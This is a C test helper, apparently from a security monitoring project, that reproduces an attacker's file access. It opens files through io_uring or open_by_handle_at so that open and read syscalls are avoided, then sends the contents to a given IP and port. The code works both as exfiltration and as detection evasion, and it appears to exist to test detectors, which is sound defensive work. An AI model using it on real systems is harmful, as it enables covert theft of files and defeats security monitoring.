/* iofile: file access the way an attacker avoiding open(2) does it, for the
 * identity variants (testdata/variants/VK*.sh).
 *
 *   iofile iou-send PATH IP PORT    open and read PATH with io_uring (no open or read syscall), send it to IP:PORT
 *   iofile iou-rewrite PATH         open PATH for writing with io_uring and write back what it held
 *   iofile handle-send PATH IP PORT open PATH by file handle (open_by_handle_at), send it to IP:PORT
 *
 * Built by the variant scripts with gcc; raw syscalls, no liburing. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <fcntl.h>
#include <linux/io_uring.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>

struct ring {
	int fd;
	unsigned *sq_tail, *sq_mask, *sq_array, *cq_head, *cq_tail, *cq_mask;
	struct io_uring_sqe *sqes;
	struct io_uring_cqe *cqes;
};

static int ring_init(struct ring *r)
{
	struct io_uring_params p;
	memset(&p, 0, sizeof(p));
	r->fd = syscall(__NR_io_uring_setup, 4, &p);
	if (r->fd < 0)
		return -1;
	size_t sz = p.sq_off.array + p.sq_entries * sizeof(unsigned);
	size_t csz = p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe);
	if (csz > sz)
		sz = csz;
	char *m = mmap(0, sz, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, r->fd, IORING_OFF_SQ_RING);
	r->sqes = mmap(0, p.sq_entries * sizeof(struct io_uring_sqe), PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE,
		       r->fd, IORING_OFF_SQES);
	if (m == MAP_FAILED || r->sqes == MAP_FAILED)
		return -1;
	r->sq_tail = (unsigned *)(m + p.sq_off.tail);
	r->sq_mask = (unsigned *)(m + p.sq_off.ring_mask);
	r->sq_array = (unsigned *)(m + p.sq_off.array);
	r->cq_head = (unsigned *)(m + p.cq_off.head);
	r->cq_tail = (unsigned *)(m + p.cq_off.tail);
	r->cq_mask = (unsigned *)(m + p.cq_off.ring_mask);
	r->cqes = (struct io_uring_cqe *)(m + p.cq_off.cqes);
	return 0;
}

/* ring_do submits sqe and waits for its completion's result. */
static int ring_do(struct ring *r, struct io_uring_sqe *sqe)
{
	unsigned tail = __atomic_load_n(r->sq_tail, __ATOMIC_ACQUIRE);
	r->sqes[tail & *r->sq_mask] = *sqe;
	r->sq_array[tail & *r->sq_mask] = tail & *r->sq_mask;
	__atomic_store_n(r->sq_tail, tail + 1, __ATOMIC_RELEASE);
	if (syscall(__NR_io_uring_enter, r->fd, 1, 1, IORING_ENTER_GETEVENTS, 0, 0) < 0)
		return -1;
	unsigned head = __atomic_load_n(r->cq_head, __ATOMIC_ACQUIRE);
	int res = r->cqes[head & *r->cq_mask].res;
	__atomic_store_n(r->cq_head, head + 1, __ATOMIC_RELEASE);
	return res;
}

static int iou_open(struct ring *r, const char *path, int flags)
{
	struct io_uring_sqe sqe;
	memset(&sqe, 0, sizeof(sqe));
	sqe.opcode = IORING_OP_OPENAT;
	sqe.fd = AT_FDCWD;
	sqe.addr = (unsigned long)path;
	sqe.open_flags = flags;
	return ring_do(r, &sqe);
}

static int iou_rw(struct ring *r, int op, int fd, void *buf, unsigned len, unsigned long long off)
{
	struct io_uring_sqe sqe;
	memset(&sqe, 0, sizeof(sqe));
	sqe.opcode = op;
	sqe.fd = fd;
	sqe.addr = (unsigned long)buf;
	sqe.len = len;
	sqe.off = off;
	return ring_do(r, &sqe);
}

static int dial(const char *ip, const char *port)
{
	struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(atoi(port))};
	inet_pton(AF_INET, ip, &a.sin_addr);
	int s = socket(AF_INET, SOCK_STREAM, 0);
	if (s < 0 || connect(s, (struct sockaddr *)&a, sizeof(a)) < 0)
		return -1;
	return s;
}

static char buf[1 << 20];

int main(int argc, char **argv)
{
	if (argc < 3)
		return 2;
	const char *mode = argv[1], *path = argv[2];
	struct ring r;
	if (!strcmp(mode, "iou-send") && argc == 5) {
		if (ring_init(&r) < 0)
			return perror("io_uring_setup"), 1;
		int fd = iou_open(&r, path, O_RDONLY);
		if (fd < 0)
			return fprintf(stderr, "io_uring open: %s\n", strerror(-fd)), 1;
		int s = dial(argv[3], argv[4]);
		long total = 0;
		for (;;) {
			int n = iou_rw(&r, IORING_OP_READ, fd, buf, sizeof(buf), total);
			if (n <= 0)
				break;
			if (s >= 0 && send(s, buf, n, 0) != n)
				break;
			total += n;
		}
		printf("io_uring read and sent %ld bytes\n", total);
		return 0;
	}
	if (!strcmp(mode, "iou-rewrite")) {
		FILE *f = fopen(path, "r"); /* the current value, read the ordinary way */
		size_t n = f ? fread(buf, 1, sizeof(buf) - 1, f) : 0;
		if (f)
			fclose(f);
		if (ring_init(&r) < 0)
			return perror("io_uring_setup"), 1;
		int fd = iou_open(&r, path, O_WRONLY);
		if (fd < 0)
			return fprintf(stderr, "io_uring open: %s\n", strerror(-fd)), 1;
		int w = iou_rw(&r, IORING_OP_WRITE, fd, buf, n, 0);
		printf("io_uring rewrote %s: %d\n", path, w);
		return 0;
	}
	if (!strcmp(mode, "handle-send") && argc == 5) {
		struct file_handle *h = malloc(sizeof(*h) + MAX_HANDLE_SZ);
		int mount_id;
		h->handle_bytes = MAX_HANDLE_SZ;
		if (name_to_handle_at(AT_FDCWD, path, h, &mount_id, 0) < 0)
			return perror("name_to_handle_at"), 1;
		int mfd = open("/", O_RDONLY | O_DIRECTORY);
		int fd = open_by_handle_at(mfd, h, O_RDONLY);
		if (fd < 0)
			return perror("open_by_handle_at"), 1;
		int s = dial(argv[3], argv[4]);
		long total = 0, n;
		while ((n = read(fd, buf, sizeof(buf))) > 0) {
			if (s >= 0 && send(s, buf, n, 0) != n)
				break;
			total += n;
		}
		printf("read by handle and sent %ld bytes\n", total);
		return 0;
	}
	fprintf(stderr, "usage: iofile iou-send|iou-rewrite|handle-send PATH [IP PORT]\n");
	return 2;
}
